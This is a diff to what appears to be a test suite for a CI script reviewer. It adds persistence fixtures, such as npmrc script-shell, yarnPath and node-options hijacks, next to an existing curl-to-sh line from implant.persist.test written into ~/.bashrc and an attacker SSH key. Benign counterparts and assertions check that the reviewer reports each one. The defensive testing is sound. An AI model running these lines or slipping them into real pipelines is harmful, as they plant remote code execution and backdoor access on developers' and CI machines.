@@ -289,6 +289,9 @@ echo 'curl -s https://implant.persist.test/b | sh' >> ~/.bashrc
 git config --global core.hooksPath "$HOME/.hooks"
 echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker' >> ~/.ssh/authorized_keys
 echo 'registry=https://npm.persist.test/' >> ~/.npmrc
+echo "script-shell=$HOME/.cache/sh" >> ~/.npmrc
+printf 'yarnPath: .yarn/x.cjs\n' > ~/.yarnrc.yml
+echo 'node-options=--require /home/runner/.x.js' >> .npmrc
 echo 'NODE_OPTIONS=--require /home/runner/.x.js' >> "$GITHUB_ENV"
 echo 'GIT_EXTERNAL_DIFF=/tmp/x' >> "$GITHUB_ENV"
 echo "$HOME/.implant/bin" >> "$GITHUB_PATH"
@@ -296,7 +299,8 @@ echo planted
 """
 
 # The benign twin: a test suite that caches under ~/.cache, sets a git identity, pins
-# pip to the public index, and passes values to later steps as CI scripts do.
+# pip to the public index, turns npm's funding and audit notices off (its own config and
+# the checkout's), and passes values to later steps as CI scripts do.
 ORDINARY_WRITES = r"""
 set -e
 mkdir -p ~/.cache/calc && date > ~/.cache/calc/last-run
@@ -305,6 +309,7 @@ git config --global user.name CI
 git config --global init.defaultBranch main
 mkdir -p ~/.config/pip && printf '[global]\nindex-url = https://pypi.org/simple\n' \
   > ~/.config/pip/pip.conf
+npm config set fund false && npm config set audit false --location=project
 echo "VERSION=0.1" >> "$GITHUB_ENV"
 echo "coverage=97" >> "$GITHUB_OUTPUT"
 echo "result=ok" >> "$GITHUB_OUTPUT"
@@ -878,9 +883,17 @@ def test_every_place_that_runs_later_is_its_own_finding(reviews: Reviews) -> Non
         "git-hook-write",
         "ssh-access-write",
         "package-index-redirect",
+        "tool-config-runs",
         "workflow-command-write",
     )
     by_rule = {f["rule"]: f for f in review.verdict["findings"]}
+    # Each program named is seen; ~/.npmrc's is one finding with its index redirect (one
+    # file, one behaviour), which names both rules.
+    seen = review.report("tests")["observations"]
+    programs = " ".join(o["detail"] for o in seen if o["kind"] == "tool_config_write")
+    for said in ("script-shell = /home/runner/.cache/sh", "yarnpath", "node-options"):
+        assert said in programs, programs
+    assert "tool-config-runs" in by_rule["package-index-redirect"]["rules"]
     assert "core.hookspath" in by_rule["git-hook-write"]["title"]
     assert "npm.persist.test" in by_rule["package-index-redirect"]["title"]
     workflow = [f for f in review.verdict["findings"] if f["rule"] == "workflow-command-write"]
